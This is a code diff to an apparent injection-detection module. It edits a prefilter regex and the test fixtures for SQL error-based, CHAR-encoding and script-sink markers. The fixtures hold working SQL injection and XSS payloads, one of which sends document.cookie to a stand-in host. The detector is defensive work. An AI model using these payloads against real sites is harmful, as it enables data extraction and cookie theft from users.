@@ -60,7 +60,7 @@ interface Marker extends CatalogueEntry {
 // Anything an injection needs: quotes, separators, braces, percent-encoding, dot-dot, system paths,
 // tags, backticks, parentheses of calls, UNC backslashes.
 export const INJECTION_PREFILTER =
-  /['"\\;|&$`<>{}%\n=(＜]|\.\.|union|sleep|waitfor|benchmark|script:|\/(?:etc|proc|root|bin)\/|win\.ini|boot\.ini|system32/i;
+  /['"\\;|&$`<>{}%\n=＜]|\.\.|union|sleep|waitfor|benchmark|script:|\/(?:etc|proc|root|bin)\/|win\.ini|boot\.ini|system32/i;
 
 const SAME_VALUE = (a: string | undefined, b: string | undefined): boolean =>
   (a ?? '').toLowerCase() === (b ?? '').toLowerCase();
@@ -205,7 +205,7 @@ const MARKERS: readonly Marker[] = [
   {
     id: 'sql-error-based',
     description: 'Error-based extraction functions (extractvalue, updatexml, xmltype, convert(int, …@@version)).',
-    match: ["1' and extractvalue(1,concat(0x7e,version()))--", 'updatexml(null,concat(0x3a,user()),null)'],
+    match: ["1' and extractvalue(1,concat(0x7e,version()))--", "1' and updatexml(null,concat(0x3a,user()),null)--"],
     nomatch: ['update the xml file', 'extract value from a map'],
     category: 'sql',
     marker: 'sql-error-based',
@@ -226,7 +226,7 @@ const MARKERS: readonly Marker[] = [
   {
     id: 'sql-char-encoding',
     description: 'Strings spelled as CHAR()/CHR() code lists to slip past quote filters.',
-    match: ['CHAR(97,100,109,105,110)', "chr(65)||chr(66)||chr(67)"],
+    match: ["x'||CHAR(97,100,109,105,110)||'", "chr(65)||chr(66)||chr(67)"],
     nomatch: ['char(10)'],
     category: 'sql',
     marker: 'sql-char-encoding',
@@ -445,7 +445,7 @@ const MARKERS: readonly Marker[] = [
   {
     id: 'js-sink-call',
     description: 'Script payload calls: alert(1)/prompt(1)/confirm(1), document.cookie, document.write(, String.fromCharCode(, CSS expression(.',
-    match: ["';alert(123);t='", ';alert(String.fromCharCode(88,83,83));', 'fetch("//x.example?c="+document.cookie)', 'x:expression(alert(1))'],
+    match: ["';alert(123);t='", ';alert(String.fromCharCode(88,83,83));', 'fetch("//x.example?c="+document.cookie)', '<div style="x:expression(alert(1))">'],
     nomatch: ['alert the on-call team', 'confirm (yes/no)'],
     category: 'html',
     marker: 'js-sink-call',
